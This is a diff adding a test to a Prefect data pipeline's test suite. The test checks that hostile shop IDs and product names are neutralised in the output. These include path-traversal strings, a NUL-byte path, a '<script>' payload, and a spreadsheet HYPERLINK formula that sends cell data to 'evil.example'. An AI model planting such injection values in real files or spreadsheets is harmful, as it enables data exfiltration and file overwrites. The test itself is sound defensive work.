@@ -18,6 +18,7 @@ from prefect.testing.utilities import prefect_test_harness
 from flows import io, steps, warehouse
 from flows.generate import generate_to_dir
 from flows.settle import RunFailed, settle_flow
+from schemas.layout import ORDER_DETAILS_LABELS, ORDER_DETAILS_MONEY
 
 ROOT = Path(__file__).resolve().parents[1]
 SAMPLES = ROOT / "data_samples"
@@ -259,3 +260,35 @@ def test_a_failing_partition_publishes_nothing_once_the_others_in_flight_are_don
     assert len(finished) == 2  # SHOP01's second slice was in flight, and ran to its end before the run was discarded
     assert not (tmp_path / "out" / "current").exists()
     assert not any((tmp_path / "out" / "runs").iterdir())
+
+
+def test_hostile_ids_and_names_stay_inside_the_output_and_are_never_run(prefect_server, tmp_path):
+    """Shop IDs that are paths (relative, absolute, with NUL), formulas and markup, and product
+    names that are formulas: the run succeeds, writes nothing outside its output directory, keeps
+    the IDs exactly in its tables, and no CSV cell starts a formula."""
+    evil = {"SHOP-A": '../../../../elsewhere/=HYPERLINK("http://evil.example/?x="&A1,"click")', "SHOP-B": "/srv/elsewhere/SHOP\x00X<script>alert(1)</script>"}
+    inputs = tmp_path / "inputs"
+    inputs.mkdir()
+    for path in SAMPLES.glob("*.parquet"):
+        frame = pl.read_parquet(path)
+        if "shop_id" in frame.columns:
+            frame = frame.with_columns(pl.col("shop_id").replace(evil))
+        if "product_name" in frame.columns:
+            frame = frame.with_columns(pl.when(pl.int_range(pl.len()) % 3 == 0).then(pl.lit("=1+1")).otherwise(pl.col("product_name")).alias("product_name"))
+        frame.write_parquet(inputs / path.name)
+    sandbox = tmp_path / "sandbox"
+    out = sandbox / "a" / "b" / "out"  # deep enough that ../../../.. would still land inside tmp_path
+    before = {p for p in tmp_path.rglob("*")}
+    settle_flow(input_dir=str(inputs), out_dir=str(out), as_of=AS_OF)
+    written = {p for p in tmp_path.rglob("*")} - before
+    assert written and all(p.is_relative_to(out) or out.is_relative_to(p) for p in written)  # out, its parents, and what is in it
+    with duckdb.connect(str(out / "settlement.duckdb"), read_only=True) as con:
+        assert {s for (s,) in con.execute("SELECT DISTINCT shop_id FROM statements").fetchall()} == set(evil.values())
+    csvs = list((out / "current" / "exports").rglob("*.csv"))
+    assert len(csvs) == len(list((out / "current" / "exports").rglob("*.xlsx"))) > 0
+    text = [label for label in ORDER_DETAILS_LABELS if label not in ORDER_DETAILS_MONEY and label != "Quantity"]  # numbers may be negative
+    for path in csvs:
+        cells = pl.read_csv(path, infer_schema=False).select(text)
+        assert not cells.select(pl.any_horizontal(pl.all().str.contains(r"^[=+\-@\t\r]")).any()).item(), path
+    names = pl.concat(pl.read_csv(p, infer_schema=False) for p in csvs)["Product name"]
+    assert names.is_in(["'=1+1"]).any() and not names.is_in(["=1+1"]).any()
